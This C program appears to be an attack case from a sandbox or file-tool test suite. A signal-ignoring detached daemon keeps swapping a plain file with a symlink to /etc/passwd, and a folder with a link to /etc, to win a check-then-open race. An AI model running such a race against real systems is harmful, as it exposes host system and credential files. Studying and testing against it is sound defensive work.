/* Swaps a plain file and a link to a file of the host all the time, from a daemon that stays, in the hope that one
   is looked at and the other opened. */
#define _GNU_SOURCE
#include "attack.h"
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>

int main(void) {
  int file = open("plain", O_CREAT | O_WRONLY, 0600);
  if (write(file, "plain", 5) < 0) return 1;
  close(file);
  if (symlink("/etc/passwd", "link") < 0) return 1;
  mkdir("folder", 0700);
  if (symlink("/etc", "elsewhere") < 0) return 1;
  rename("plain", "out.txt");
  if (fork() == 0) {
    setsid();
    for (int sign = 1; sign < 65; sign++) signal(sign, SIG_IGN);
    for (long turn = 0; turn < bound(1 << 22, 1L << 60); turn++) {
      renameat2(AT_FDCWD, "link", AT_FDCWD, "out.txt", RENAME_EXCHANGE);
      renameat2(AT_FDCWD, "folder", AT_FDCWD, "elsewhere", RENAME_EXCHANGE);
    }
    _exit(0);
  }
  usleep(20000);
  return 0;
}
